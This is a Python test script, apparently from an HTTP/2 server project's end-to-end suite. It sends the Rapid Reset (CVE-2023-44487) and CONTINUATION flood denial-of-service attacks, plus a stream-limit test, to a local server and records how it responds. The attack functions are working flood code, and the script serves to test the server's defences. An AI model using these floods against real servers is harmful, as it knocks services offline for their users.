"""Known HTTP/2 attacks, made frame by frame with Python's h2 (Debian's python3-h2), against
rawserve over h2c. Run by tests/e2e/h2_attacks_test.ts:

    /usr/bin/python3 tests/e2e/h2_attacks.py PORT ATTACK ROUNDS

Each round is one connection; the result is one JSON line on stdout: per round, the GOAWAY error
code received (or null), the streams reset by the server and their codes, the responses begun.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame

CANCEL = 0x8
READ_SECONDS = 3.0


def request(port, path):
    return [
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b":path", path.encode()),
    ]


def connect(port, settings=None):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    return sock, conn


def send(sock, data):
    """Sends what it can; the server may close mid-way (that is what an attack provokes)."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def read_all(sock, conn, seconds, streams=None):
    """What the server says until it closes, `seconds` pass or every one of `streams` was answered
    or reset: GOAWAY, resets by code, responses begun."""
    result = {"goaway": None, "resets": {}, "responses": 0}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                result["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.StreamReset):
                code = str(int(event.error_code))
                result["resets"][code] = result["resets"].get(code, 0) + 1
            elif isinstance(event, h2.events.ResponseReceived):
                result["responses"] += 1
        if result["goaway"] is not None:
            break
        if streams is not None and result["responses"] + sum(result["resets"].values()) >= streams:
            break
        send(sock, conn.data_to_send())
    return result


def rapid_reset(port):
    """CVE-2023-44487: streams opened and cancelled at once, as fast as the socket takes them."""
    sock, conn = connect(port)
    send(sock, conn.data_to_send())
    for _ in range(40):
        for _ in range(50):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, request(port, "/"), end_stream=True)
            conn.reset_stream(stream, error_code=CANCEL)
        if not send(sock, conn.data_to_send()):
            break
    result = read_all(sock, conn, READ_SECONDS)
    sock.close()
    return result


def continuation_flood(port):
    """CVE-2024-27316 class: one header block that never ends, in empty CONTINUATION frames."""
    sock, conn = connect(port)
    head = HeadersFrame(1)
    head.data = conn.encoder.encode(request(port, "/"))
    head.flags.add("END_STREAM")  # but never END_HEADERS
    flood = head.serialize() + ContinuationFrame(1).serialize() * 10_000
    send(sock, conn.data_to_send() + flood)
    result = read_all(sock, conn, READ_SECONDS)
    sock.close()
    return result


def too_many_streams(port):
    """150 requests at once on a connection whose window is shut (SETTINGS_INITIAL_WINDOW_SIZE 0),
    so none can finish: the server announces 100 concurrent streams and refuses the rest."""
    sock, conn = connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    # All sent before the server's SETTINGS are read, so h2 does not hold them back itself.
    for _ in range(150):
        conn.send_headers(conn.get_next_available_stream_id(), request(port, "/big.bin"), end_stream=True)
    send(sock, conn.data_to_send())
    result = read_all(sock, conn, READ_SECONDS, 150)
    sock.close()
    return result


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "too_many_streams": too_many_streams,
}

if __name__ == "__main__":
    port, attack, rounds = int(sys.argv[1]), ATTACKS[sys.argv[2]], int(sys.argv[3])
    print(json.dumps([attack(port) for _ in range(rounds)]))
